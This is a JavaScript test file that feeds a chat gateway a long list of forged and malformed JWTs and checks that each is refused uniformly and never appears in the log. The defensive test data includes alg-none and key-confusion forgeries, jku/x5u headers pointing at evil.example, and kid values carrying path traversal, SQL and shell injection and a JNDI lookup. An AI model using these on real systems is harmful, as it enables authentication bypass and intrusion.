/*
 * token_rows - what a hostile token can be, over HTTP and in `hello`
 *
 * One gateway that knows a secret of ours and three issuers' public keys.
 * Whatever is wrong with a token, and wherever it is tried, the answer is the
 * same to the byte, and the log has nothing of it.
 */

import { createHmac, generateKeyPairSync, randomUUID, sign }
	from 'node:crypto';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { SideGateway } from '../lib/side_gateway.mjs';
import { RawSocket, UPGRADE, text } from './raw_socket.mjs';

const ISSUER = 'https://tokens.example/';
const EVIL = 'https://evil.example/';
const ORDER = {		/* of the groups that ES256 and EdDSA count in */
	p256: 0xffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551n,
	ed25519: (1n << 252n) + 27742317777372353535851937790883648493n,
};
const base64 = (bytes) => Buffer.from(bytes).toString('base64url');
const number = (bytes) => BigInt(`0x${Buffer.from(bytes).toString('hex')}`);
const bytesOf = (value, size) => Buffer.from(
	value.toString(16).padStart(2 * size, '0'), 'hex');
const backwards = (bytes) => Buffer.from(bytes).reverse();

/* ---- making them ---- */

class Keys {
	constructor(secret) {
		const [, kid, hex] = /^(?:([^:\n]*):)?([0-9a-fA-F]+)/u.exec(secret);

		this.own = { kid, secret: Buffer.from(hex, 'hex') };
		this.RS256 = generateKeyPairSync('rsa', { modulusLength: 2048 });
		this.ES256 = generateKeyPairSync('ec', { namedCurve: 'P-256' });
		this.EdDSA = generateKeyPairSync('ed25519');
		this.stranger = generateKeyPairSync('ec', { namedCurve: 'P-256' });
	}

	jwk(alg) {
		return { ...this[alg].publicKey.export({ format: 'jwk' }), kid: alg,
			alg, use: 'sig' };
	}

	sign(alg, said, { key = this[alg]?.privateKey } = {}) {
		switch (alg) {
			case 'HS256':
				return createHmac('sha256', this.own.secret).update(said).digest();
			case 'ES256':
				return sign('sha256', Buffer.from(said),
					{ key, dsaEncoding: 'ieee-p1363' });
			case 'EdDSA':
				return sign(null, Buffer.from(said), key);
			default:
				return sign('sha256', Buffer.from(said), key);
		}
	}
}

const keys = { made: null };
const nowS = () => Math.floor(Date.now() / 1000);

function claimsOf(alg, sub) {
	return { sub, iat: nowS(), exp: nowS() + 600,
		...alg === 'HS256' ? {} : { iss: ISSUER, aud: 'chemchat' } };
}

/*
 * One that is good but for what is asked.  header, claims: laid over the good
 * ones; rawHeader, rawClaims: JSON as it stands; signature: of the signed text.
 */
function token(alg, { header = {}, claims = {}, rawHeader, rawClaims,
	signature } = {}) {
	const kid = alg === 'HS256' ? keys.made.own.kid : alg;
	const head = base64(rawHeader ?? JSON.stringify({ alg, ...kid ? { kid } : {},
		...header }));
	const body = base64(rawClaims ??
		JSON.stringify({ ...claimsOf(alg, keys.sub), ...claims }));
	const said = `${head}.${body}`;

	return `${said}.${base64((signature ?? ((one) => keys.made.sign(alg, one)))(
		said))}`;
}

/* ---- what is wrong with them: [what it is, token] ---- */

function badAlgorithms() {
	const hmac = (secret) => (said) =>
		createHmac('sha256', secret).update(said).digest();
	const unsigned = () => Buffer.alloc(0);
	const rsa = keys.made.RS256.publicKey;
	const list = [];

	for (const alg of ['none', 'None', 'NONE', 'nOnE', 'none ', '']) {
		list.push([`alg "${alg}", not signed`, token('HS256',
			{ header: { alg }, signature: unsigned })]);
		list.push([`alg "${alg}", signed`, token('HS256', { header: { alg } })]);
	}
	for (const alg of ['hs256', 'Hs256', 'HS256 ', ' HS256', 'HS384', 'HS512',
		'RS256', 'ES256', 'EdDSA', 'HMAC', 'dir', null, 7, true, ['HS256'],
		{ a: 'HS256' }])
		list.push([`alg ${JSON.stringify(alg)} for a secret`,
			token('HS256', { header: { alg } })]);
	for (const alg of ['RS384', 'RS512', 'PS256', 'rs256', 'RS1'])
		list.push([`alg ${alg} for an RSA key`, token('RS256', { header: { alg } })]);
	for (const alg of ['ES384', 'ES256K', 'ES512', 'es256'])
		list.push([`alg ${alg} for an EC key`, token('ES256', { header: { alg } })]);
	for (const [what, secret] of [
		['PEM', rsa.export({ type: 'spki', format: 'pem' })],
		['PEM without its end', String(rsa.export({ type: 'spki',
			format: 'pem' })).trimEnd()],
		['PKCS1', rsa.export({ type: 'pkcs1', format: 'pem' })],
		['DER', rsa.export({ type: 'spki', format: 'der' })],
		['modulus', Buffer.from(rsa.export({ format: 'jwk' }).n, 'base64url')],
		['JWK', JSON.stringify(keys.made.jwk('RS256'))],
		['nothing', ''],
	]) {
		list.push([`HS256 with the public key's ${what} as its secret`,
			token('RS256', { header: { alg: 'HS256' }, signature: hmac(secret) })]);
		list.push([`the same under our secret's name: ${what}`, token('HS256',
			{ claims: claimsOf('RS256', keys.sub), signature: hmac(secret) })]);
	}
	return list;
}

function badHeaders() {
	const own = keys.made;
	const byStranger = (said) => own.sign('ES256', said,
		{ key: own.stranger.privateKey });
	const theirs = own.stranger.publicKey.export({ format: 'jwk' });
	const list = [
		['another\'s key in the header', token('ES256', { header: { jwk: theirs },
			signature: byStranger })],
		['another\'s signature', token('ES256', { signature: byStranger })],
		['b64 false, the payload bare', (() => {
			const said = `${base64(JSON.stringify({ alg: 'HS256', b64: false,
				crit: ['b64'], kid: own.own.kid }))}.${JSON.stringify(
				claimsOf('HS256', keys.sub))}`;

			return `${said}.${base64(own.sign('HS256', said))}`;
		})()],
	];

	for (const header of [{ jku: EVIL }, { x5u: EVIL }, { x5c: ['AAAA'] },
		{ jwk: theirs }, { jwk: null }, { crit: ['exp'] }, { crit: [] },
		{ crit: null }, { b64: false }, { b64: true }, { typ: 'JWE' },
		{ typ: 7 }, { typ: '' }])
		list.push([`header ${JSON.stringify(header).slice(0, 40)}`,
			token('ES256', { header })]);
	for (const kid of ['../../../../etc/passwd', '/dev/null', 'RS256\0',
		'\' OR 1=1 --', '; cat /etc/passwd', '${jndi:ldap://evil.example}',
		'rs256', 'ES256 ', '', 'x'.repeat(200), ['ES256'], { a: 1 }, 7, null,
		true, 'RS256', 'EdDSA'])
		list.push([`kid ${JSON.stringify(kid).slice(0, 40)}`,
			token('ES256', { header: { kid } })]);
	for (const rawHeader of ['', '{}', '[]', 'null', '"x"', '7',
		'{"alg":"ES256","alg":"ES256","kid":"ES256"}',
		'{"alg":"none","alg":"ES256","kid":"ES256"}',
		'\ufeff{"alg":"ES256","kid":"ES256"}', '{"alg":"ES256","kid":"ES256"} x',
		'{"alg":"ES256","kid":"ES256"', '{"alg":"ES256","kid":"ES256","a":NaN}',
		`{"alg":"ES256","kid":"ES256","a":${'['.repeat(2500)}${']'.repeat(2500)}}`])
		list.push([`the header ${rawHeader.slice(0, 40)}`,
			token('ES256', { rawHeader })]);
	return list;
}

function badClaims() {
	const list = [];
	const raw = (what, more, { without = [] } = {}) => {
		const claims = claimsOf('RS256', keys.sub);

		for (const name of without)
			delete claims[name];
		list.push([what, token('RS256', { rawClaims: `${JSON.stringify(claims)
			.slice(0, -1)},${more}}` })]);
	};

	for (const value of [`"${nowS() + 600}"`, '1e999', '-1e999', '-1', '0', '-0',
		'0.5', '1e400', '1e30', '9223372036854775807', '9223372036854775808',
		'-9223372036854775809', '18446744073709551617', 'NaN', 'Infinity', 'null',
		'true', '[]', '{}', `[${nowS() + 600}]`, String(nowS() - 60),
		`${nowS() - 60}.5`, '""'])
		raw(`exp ${value}`, `"exp":${value}`, { without: ['exp'] });
	raw('no exp', '"x":1', { without: ['exp'] });
	for (const value of ['"0"', '1e999', '-5', '[]', 'null', 'true',
		String(nowS() + 60), `${nowS() + 60}.5`, '9007199254740993', '1e300'])
		for (const name of ['nbf', 'iat'])
			raw(`${name} ${value}`, `"${name}":${value}`, { without: [name] });
	for (const value of ['"shop"', '""', '[]', '["shop"]', '{}', 'null', '7',
		'["chemchat",7]', '["chemchat",null]', '[["chemchat"]]', '"Chemchat"',
		'"chemchat "', '"chemchat\\u0000"', '"chemchat,shop"'])
		raw(`aud ${value}`, `"aud":${value}`, { without: ['aud'] });
	raw('no aud', '"x":1', { without: ['aud'] });
	for (const value of [`"${EVIL}"`, '""', 'null', '7', `["${ISSUER}"]`,
		`"${ISSUER.toUpperCase()}"`, `"${ISSUER.slice(0, -1)}"`])
		raw(`iss ${value}`, `"iss":${value}`, { without: ['iss'] });
	raw('no iss', '"x":1', { without: ['iss'] });
	for (const value of ['""', 'null', '7', `["${keys.sub}"]`, '"alice"',
		`"${keys.sub}x"`, `"{${keys.sub}}"`, `" ${keys.sub}"`,
		`"${'a'.repeat(300)}"`])
		raw(`sub ${value.slice(0, 40)}`, `"sub":${value}`, { without: ['sub'] });
	raw('no sub', '"x":1', { without: ['sub'] });
	for (const name of ['exp', 'sub', 'aud', 'iss', 'x'])
		raw(`${name} twice`, `"x":0,"${name}":${JSON.stringify(
			claimsOf('RS256', keys.sub)[name] ?? 1)}`);
	for (const rawClaims of ['', '[]', 'null', '{}', '"x"', '{"sub":'])
		list.push([`the claims ${rawClaims}`, token('RS256', { rawClaims })]);
	return list;
}

function badSignatures() {
	const own = keys.made;
	const es = (said) => own.sign('ES256', said);
	const ed = (said) => own.sign('EdDSA', said);
	const list = [];
	const add = (alg, what, signature) =>
		list.push([`${alg}: ${what}`, token(alg, { signature })]);
	const zero = Buffer.alloc(32);

	for (const alg of ['HS256', 'RS256', 'ES256', 'EdDSA']) {
		const size = own.sign(alg, '').length;

		add(alg, 'no signature', () => Buffer.alloc(0));
		add(alg, 'zeros', () => Buffer.alloc(size));
		add(alg, 'ones', () => Buffer.alloc(size, 255));
		add(alg, 'a byte less', (said) => own.sign(alg, said).subarray(0, -1));
		add(alg, 'a byte more', (said) => Buffer.concat([own.sign(alg, said),
			Buffer.alloc(1)]));
		add(alg, 'a byte before it', (said) => Buffer.concat([Buffer.alloc(1),
			own.sign(alg, said)]));
		add(alg, 'of another text', (said) => own.sign(alg, `${said}x`));
		add(alg, 'one bit off', (said) => {
			const bytes = Buffer.from(own.sign(alg, said));

			bytes[size - 1] ^= 1;
			return bytes;
		});
	}
	add('ES256', 'as DER', (said) => sign('sha256', Buffer.from(said),
		own.ES256.privateKey));
	add('ES256', 'r is zero', (said) => Buffer.concat([zero,
		es(said).subarray(32)]));
	add('ES256', 's is zero', (said) => Buffer.concat([es(said).subarray(0, 32),
		zero]));
	add('ES256', 'both are the order', () => Buffer.concat([
		bytesOf(ORDER.p256, 32), bytesOf(ORDER.p256, 32)]));
	add('ES256', 'the order added to s', (said) => {
		const bytes = es(said);
		const s = number(bytes.subarray(32)) + ORDER.p256;

		return s >> 256n ? Buffer.concat([bytes.subarray(0, 32), bytesOf(s, 33)])
			: Buffer.concat([bytes.subarray(0, 32), bytesOf(s, 32)]);
	});
	add('EdDSA', 'the order added to s', (said) => {
		const bytes = ed(said);

		return Buffer.concat([bytes.subarray(0, 32), backwards(bytesOf(
			number(backwards(bytes.subarray(32))) + ORDER.ed25519, 32))]);
	});
	add('EdDSA', 'a point of small order', () => Buffer.concat([
		Buffer.from([1]), Buffer.alloc(63)]));
	add('RS256', 'PSS', (said) => sign('sha256', Buffer.from(said), {
		key: own.RS256.privateKey, padding: 6, saltLength: 32 }));
	add('RS256', 'of SHA-1', (said) => sign('sha1', Buffer.from(said),
		own.RS256.privateKey));
	add('RS256', 'of SHA-512', (said) => sign('sha512', Buffer.from(said),
		own.RS256.privateKey));
	add('RS256', 'another RSA key\'s', (said) => sign('sha256',
		Buffer.from(said), generateKeyPairSync('rsa',
			{ modulusLength: 2048 }).privateKey));
	add('RS256', 'the modulus', () => Buffer.from(
		own.RS256.publicKey.export({ format: 'jwk' }).n, 'base64url'));
	return list;
}

function badForms() {
	const good = token('ES256');
	const [head, body, signature] = good.split('.');
	/* The last character has bits to spare: the same bytes, another text. */
	const spare = (part) => {
		const letters = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz' +
			'0123456789-_';
		const last = letters.indexOf(part.at(-1));

		return part.length % 4 === 0 ? null
			: part.slice(0, -1) + letters[last | 1];
	};
	const list = [
		['three empty parts', '..'], ['two parts', `${head}.${body}`],
		['one part', head], ['a dot', '.'], ['four parts', `${good}.${signature}`],
		['five parts', `${good}.${head}.${body}`], ['five dots', '.....'],
		['a dot behind it', `${good}.`], ['a dot before it', `.${good}`],
		['no header', `.${body}.${signature}`],
		['no claims', `${head}..${signature}`],
		['padded', `${head}.${body}.${signature}==`],
		['a padded header', `${head}=.${body}.${signature}`],
		['a padding of a whole group', `${head}.${body}.${signature}====`],
		['a plus in it', good.replace(/\.(.)/u, '.+')],
		['a slash in it', good.replace(/\.(.)/u, './')],
		['a percent in it', good.replace('.', '%2e')],
		['a blank in it', `${head}. ${body}.${signature}`],
		['a tab in it', `${head}.\t${body}.${signature}`],
		['a letter that is none', `${head}.${body}.${signature.slice(1)}\xe9`],
		['quotes around it', `"${good}"`],
		['JSON', JSON.stringify({ protected: head, payload: body, signature })],
		['two of them', `${good},${good}`],
		['Bearer twice', `Bearer ${good}`],
		['a bot\'s that nobody made', `ccb_${'A'.repeat(43)}`],
		['a bot\'s, cut short', 'ccb_AAAA'],
		['8,000 bytes', 'x'.repeat(7900)], ['8,000 dots', '.'.repeat(7900)],
		['a payload of 7 KiB', token('RS256', { claims: { x: 'x'.repeat(4500) },
			signature: () => Buffer.alloc(256) })],
	];

	for (const [what, parts] of [['header', [spare(head), body, signature]],
		['claims', [head, spare(body), signature]],
		['signature', [head, body, spare(signature)]]]) {
		if (!parts.includes(null) && parts.join('.') !== good)
			list.push([`bits to spare in the ${what}`, parts.join('.')]);
	}
	return list;
}

/* ---- trying them ---- */

/* The whole answer to GET /v1/me. */
async function overHttp(port, bearer) {
	const socket = new RawSocket(port);

	try {
		socket.say(Buffer.from('GET /v1/me HTTP/1.1\r\nHost: a\r\n' +
			`Authorization: Bearer ${bearer}\r\n\r\n`, 'latin1'));
		const { status, head, body } = await socket.response();

		return { status, shape: `${head}\r\n\r\n${body}` };
	} finally {
		socket.close();
	}
}

/* Every frame until the socket is closed, or the welcome. */
async function overSocket(port, { hello, header }) {
	const socket = new RawSocket(port);

	try {
		socket.say(header === undefined ? UPGRADE : Buffer.from(UPGRADE.replace(
			'\r\n\r\n', `\r\nAuthorization: Bearer ${header}\r\n\r\n`), 'latin1'));
		const { status } = await socket.response();

		if (status !== 101)
			return { status, shape: `${status}` };
		socket.say(text({ type: 'hello', ...hello === undefined ? {}
			: { token: hello } }));
		for (let shape = ''; ;) {
			const { opcode, payload } = await socket.frame();

			shape += `${opcode}:${payload.toString('latin1')}\n`;
			if (opcode === 8)
				return { status: payload.readUInt16BE(0), shape };
			if (JSON.parse(payload).type === 'welcome')
				return { status: 101, shape };
		}
	} finally {
		socket.close();
	}
}

const fitsAHeader = (bearer) => /^[\x21-\x7e\x80-\xff][\t\x20-\x7e\x80-\xff]*$/u
	.test(bearer) && bearer.length < 7950 && !/\s$/u.test(bearer);

export async function tokenRows(row, need, runFolder, env) {
	const folder = await mkdtemp(path.join(tmpdir(), 'chemchat-tokens.'));
	let gateway = null;

	try {
		keys.made = new Keys(await readFile(env.CHEMCHAT_JWT_SECRET_FILE, 'utf8'));
		keys.sub = env.CHEMCHAT_ALICE;
		await writeFile(path.join(folder, 'keys.json'), JSON.stringify({ keys:
			['RS256', 'ES256', 'EdDSA'].map((alg) => keys.made.jwk(alg)) }),
		{ mode: 0o600 });
		await writeFile(path.join(folder, 'issuers.json'), JSON.stringify({
			issuers: [{ issuer: ISSUER, audience: 'chemchat',
				key_files: ['keys.json'] }] }), { mode: 0o600 });
		gateway = await SideGateway.start(runFolder, ['--issuers-file',
			path.join(folder, 'issuers.json'), '--address-requests', '0',
			'--log-level', 'debug']);
		const { port } = gateway;
		const same = { http: null, socket: null };
		const secrets = new Set();

		for (const [what, good] of [
			...['HS256', 'RS256', 'ES256', 'EdDSA'].map((alg) =>
				[alg, token(alg)]),
			['aud in a list', token('ES256', { claims: { aud:
				['shop', 'chemchat'] } })],
			['exp with a fraction', token('ES256', { claims: { exp:
				nowS() + 600.5 } })],
			['typ at+jwt', token('ES256', { header: { typ: 'at+jwt' } })],
			['claims nobody knows', token('ES256', { claims: { x: [1, { y: 2 }],
				jti: randomUUID() } })],
		])
			await row(`token: ${what} is good`, async () => {
				need((await overHttp(port, good)).status === 200, 'not over HTTP');
				need((await overSocket(port, { hello: good })).status === 101,
					'not in hello');
				need((await overSocket(port, { header: good })).status === 101,
					'not in the header of a socket');
			});
		const refused = ([what, bad]) =>
			row(`token refused: ${what}`, async () => {
				const answers = [['hello', 4401, 'socket',
					await overSocket(port, { hello: bad })]];

				bad.split('.').filter((part) => part.length > 20)
					.forEach((part) => secrets.add(part));
				if (fitsAHeader(bad))
					answers.push(['HTTP', 401, 'http', await overHttp(port, bad)],
						['the header', 4401, 'socket',
							await overSocket(port, { header: bad })]);
				for (const [where, status, kind, answer] of answers) {
					need(answer.status === status,
						`${where}: ${answer.status}: ${answer.shape}`);
					need(answer.shape.includes('"invalid_token"'),
						`${where}: ${answer.shape}`);
					same[kind] ??= answer.shape;
					need(answer.shape === same[kind],
						`${where}: ${answer.shape}, not ${same[kind]}`);
				}
			});
		const bad = [...badAlgorithms(), ...badHeaders(), ...badClaims(),
			...badSignatures(), ...badForms()];

		while (bad.length > 0)
			await Promise.all(bad.splice(0, 16).map(refused));
		await row('token refused: 60 KiB in hello, 100 KiB anywhere', async () => {
			const long = 'x'.repeat(100000);

			need((await overSocket(port, { hello: long.slice(0, 60000) })).status
				=== 4401, 'not 4401');
			need((await overSocket(port, { hello: long })).status === 1009,
				'not 1009');
			need((await overHttp(port, long)).status === 431, 'not 431');
		});
		await row('token refused: the log says why and has nothing of them',
			async () => {
				/* A reason each, as far as the log's own limit lets them. */
				need(/msg="token refused" reason=[a-z_]+\n/u.test(gateway.log),
					'no reason');
				for (const part of [...secrets, 'evil.example', 'eyJ', 'passwd'])
					need(!gateway.log.includes(part),
						`${part.slice(0, 40)} is in the log`);
				need(await gateway.metric('chemchat_gateway_tokens_total',
					'refused') > 300, 'they are not counted');
			});
		await row('tokens: the sanitizers have found nothing', async () => {
			gateway.signal('SIGTERM');
			const { code } = await gateway.exit;

			need(code === 0 && !/Sanitizer|runtime error/u.test(gateway.log),
				`${code}: ${gateway.log.slice(-3000)}`);
		});
	} finally {
		await gateway?.stop();
		await rm(folder, { recursive: true, force: true });
	}
}
